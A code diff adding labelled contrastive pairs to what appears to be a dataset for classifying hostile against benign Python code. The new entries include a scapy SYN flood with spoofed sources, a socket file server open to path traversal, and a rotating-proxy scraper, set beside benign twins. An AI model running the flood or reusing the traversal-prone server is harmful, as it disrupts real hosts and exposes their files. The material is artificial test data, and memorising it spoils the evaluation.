@@ -357,6 +357,23 @@ PAIRS = [
      "import bcrypt, time\nsample = b'correct horse'\nfor cost in range(8, 15):\n    t0 = time.perf_counter()\n"
      "    h = bcrypt.hashpw(sample, bcrypt.gensalt(rounds=cost))\n    assert bcrypt.checkpw(sample, h)\n"
      "    print(cost, time.perf_counter() - t0)"),
+    ("flood: batches of crafted SYN packets built by a comprehension and sent in a loop; a traceroute's list of "
+     "probes, one per hop", "dos_attack",
+     "from scapy.all import IP, TCP, send\nimport random\ndef burst(n=256):\n"
+     "    send([IP(src=f'10.{random.randint(0, 255)}.0.1', dst='198.51.100.7')/TCP(dport=443, flags='S') "
+     "for _ in range(n)], verbose=False)\nfor _ in range(500):\n    burst()",
+     "from scapy.all import IP, ICMP, sr\nans, _ = sr([IP(dst='198.51.100.7', ttl=i)/ICMP() for i in range(1, 31)], "
+     "timeout=2)\nfor sent, got in ans:\n    print(sent.ttl, got.src)"),
+    ("server: a socket server that reads the named file inside a tuple assignment; one that reads a fixed file",
+     "web_file_hosting",
+     "import socket, os\ns = socket.socket()\ns.bind(('', 8011))\ns.listen(9)\nwhile True:\n    c, a = s.accept()\n"
+     "    p = c.recv(4096).decode().split(' ')[1]\n"
+     "    body, kind = open(os.path.join('/srv/share', p.lstrip('/')), 'rb').read(), 'application/octet-stream'\n"
+     "    c.sendall(f'HTTP/1.0 200 OK\\r\\nContent-Type: {kind}\\r\\n\\r\\n'.encode() + body)\n    c.close()",
+     "import socket, os\ns = socket.socket()\ns.bind(('', 8011))\ns.listen(9)\nwhile True:\n    c, a = s.accept()\n"
+     "    p = c.recv(4096).decode().split(' ')[1]\n"
+     "    body, kind = open('status.html', 'rb').read(), 'text/html'\n"
+     "    c.sendall(f'HTTP/1.0 200 OK\\r\\nContent-Type: {kind}\\r\\n\\r\\n'.encode() + body)\n    c.close()"),
     ("server: an http.server handler that writes out the file its request path names; one that always sends its "
      "own page", "web_file_hosting",
      "import os\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\nROOT = '/content/drive/MyDrive'\n"
@@ -594,6 +611,16 @@ PAIRS = [
      "_h, _pt = base64.b64decode('MTI3LjAuMC4xOjgwMDA=').decode().rsplit(':', 1)\n"
      "_c = getattr(_s, 'create_' + 'connection')((_h, int(_pt)))\n_c.sendall(b'GET /health HTTP/1.0\\r\\n\\r\\n')\n"
      "print(_c.recv(200))"),
+    ("proxy trial: a session's proxies updated with the next proxy of a pool for each batch; a session set once to "
+     "the office proxy", "proxy_tunnel",
+     "import requests\npool = requests.get(LIST_URL).text.split()\ndef session_for(route):\n    s = requests.Session()\n"
+     "    s.proxies.update({'http': route, 'https': route})\n    return s\ni = 0\n"
+     "for start in range(0, len(ids), 20):\n    route = pool[i % len(pool)]\n    i += 1\n    s = session_for(route)\n"
+     "    for pid in ids[start:start + 20]:\n        print(s.get(f'https://shop.example.com/p/{pid}').status_code)",
+     "import requests\ndef session_for(route):\n    s = requests.Session()\n"
+     "    s.proxies.update({'http': route, 'https': route})\n    return s\ns = session_for('http://proxy.corp.example.org:3128')\n"
+     "for start in range(0, len(ids), 20):\n"
+     "    for pid in ids[start:start + 20]:\n        print(s.get(f'https://shop.example.com/p/{pid}').status_code)"),
     ("proxy trial: a pool's map hands each proxy of a list to a check that fetches one page through it (not a flood "
      "of that page); a scraper whose proxy is a fixed option", "proxy_tunnel",
      "import requests\nfrom concurrent.futures import ThreadPoolExecutor\nTEST = 'https://example.org/'\nalive = []\n"
